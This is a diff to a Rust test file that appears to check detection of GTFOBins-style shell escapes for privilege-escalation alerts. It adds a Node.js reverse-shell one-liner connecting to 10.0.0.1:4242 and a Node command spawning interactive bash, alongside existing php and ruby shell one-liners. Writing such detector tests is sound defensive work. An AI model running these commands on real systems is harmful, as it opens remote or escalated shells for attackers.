@@ -3116,6 +3116,24 @@ fn gtfobins_shells_of_splunk_privilege_escalation_detections() {
             ],
             Some(ONE_LINER),
         ),
+        (
+            &[
+                "node",
+                "-e",
+                "var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"sh\", []);\
+                 var c=new net.Socket();c.connect(4242,\"10.0.0.1\",function(){c.pipe(sh.stdin);\
+                 sh.stdout.pipe(c);sh.stderr.pipe(c);});",
+            ],
+            Some(ONE_LINER),
+        ),
+        (
+            &[
+                "node",
+                "-e",
+                "require(\"child_process\").spawn(\"/bin/bash\", [\"-i\"], {stdio: \"inherit\"})",
+            ],
+            Some(ONE_LINER),
+        ),
         (&["php", "-r", "system('/bin/sh');"], Some(ONE_LINER)),
         (&["ruby", "-e", "exec \"/bin/sh\""], Some(ONE_LINER)),
         // Their ordinary work.
